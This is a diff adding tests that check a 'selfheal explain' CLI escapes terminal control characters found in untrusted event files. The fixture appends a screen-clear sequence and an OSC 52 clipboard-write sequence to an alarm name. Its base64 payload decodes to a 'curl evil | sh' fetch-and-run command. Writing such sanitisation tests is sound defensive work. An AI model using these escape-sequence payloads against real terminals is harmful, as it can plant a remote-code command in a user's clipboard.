@@ -366,3 +366,37 @@ describe('selfheal explain', () => {
     expect(out).toMatch(/^Usage: selfheal explain --event FILE.json/);
   });
 });
+
+const ESC = '\u001b';
+const BEL = '\u0007';
+
+/**
+ * An event file is untrusted input (pasted from a ticket, a chat, another account's bus): the
+ * example disk-full event with escape sequences appended to its alarm name (still `disk-full-*`).
+ */
+function hostileEvent(): string {
+  const event = JSON.parse(files['disk.json']) as { detail: { alarmName: string } };
+  event.detail.alarmName = `${event.detail.alarmName}${ESC}[2J${ESC}]52;c;Y3VybCBldmlsIHwgc2gK${BEL}`;
+  return JSON.stringify(event);
+}
+
+describe('selfheal explain with escape sequences in the event file', () => {
+  it("shows the alarm name's control characters as escapes, sending no ESC or BEL to the terminal", async () => {
+    const { code, out } = await explain(['--event', 'evil.json'], { 'evil.json': hostileEvent() });
+
+    expect(code).toBe(0);
+    expect(out).not.toContain(ESC);
+    expect(out).not.toContain(BEL);
+    expect(out).toContain('\\x1b[2J\\x1b]52;c;Y3VybCBldmlsIHwgc2gK\\x07" OK → ALARM');
+  });
+
+  it('shows them as escapes in the one line for another kind of event (its source)', async () => {
+    const event = { ...JSON.parse(fixture('ec2-instance-state-change.json')), source: `aws.ec2${ESC}[2J` };
+
+    const { code, out } = await explain(['--event', 'e.json'], { 'e.json': JSON.stringify(event) });
+
+    expect(code).toBe(0);
+    expect(out).not.toContain(ESC);
+    expect(out).toContain('from aws.ec2\\x1b[2J: not an alarm state change');
+  });
+});
